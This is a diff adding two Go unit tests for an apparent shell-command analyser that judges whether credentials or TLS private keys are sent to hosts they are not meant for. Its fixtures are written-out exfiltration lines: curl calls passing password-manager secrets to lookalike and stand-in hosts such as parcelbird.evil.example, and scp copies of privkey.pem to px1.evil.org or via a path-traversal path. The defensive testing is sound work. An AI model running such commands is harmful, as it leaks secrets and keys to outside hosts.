@@ -55,3 +55,44 @@ func TestAVariableOfAKnownServiceIsSecretForAllOthers(t *testing.T) {
 		t.Errorf("%+v", c.Sends)
 	}
 }
+
+func TestAnEntryOfASecretStoreIsSecretForHostsThatItIsNotNamedFor(t *testing.T) {
+	for line, want := range map[string]bool{
+		`curl -u "$(op read 'op://shop/Parcelbird live/key'):" https://api.parcelbird.io/v2`:            false,
+		`curl -H "Authorization: Bearer $(pass show work/parcelbird)" https://api.parcelbird.io/v2`:     false,
+		`curl -u "$(op read 'op://shop/Parcelbird live/key'):" https://api.parcelbird-pay.io/v2`:        true,
+		`curl -u "$(op read 'op://shop/Parcelbird live/key'):" https://parcelbird.evil.example/v2`:      true,
+		`curl -H "Authorization: Bearer $(pass show prod/private/token)" https://private.example/hooks`: true,
+	} {
+		secret := false
+		for _, s := range shell.Parse(line).Sends {
+			for _, d := range s.Data {
+				secret = secret || d.Secret
+			}
+		}
+		if secret != want {
+			t.Errorf("%s: %v", line, secret)
+		}
+	}
+}
+
+func TestACertificateIsMadeForTheHostsOfItsDomain(t *testing.T) {
+	for line, want := range map[string]bool{
+		"scp /etc/letsencrypt/live/acme.example.org/privkey.pem root@px1.acme.example.org:/etc/haproxy/":             true,
+		"for h in px1 px2; do scp /etc/letsencrypt/live/acme.org/{fullchain,privkey}.pem root@$h.acme.org:/c/; done": true,
+		"scp /etc/letsencrypt/live/acme.org/privkey.pem root@px1.evil.org:/c/":                                       false,
+		"scp /etc/letsencrypt/live/../../ssl/private/acme.org/key.pem root@acme.org:/c/":                             false,
+		"scp /home/ana/acme.org/privkey.pem root@acme.org:/c/":                                                       false,
+	} {
+		all := true
+		sends := shell.Parse(line).Sends
+		for _, s := range sends {
+			for _, d := range s.Data {
+				all = all && s.Certifies(d)
+			}
+		}
+		if len(sends) == 0 || all != want {
+			t.Errorf("%s: %v, %+v", line, all, sends)
+		}
+	}
+}
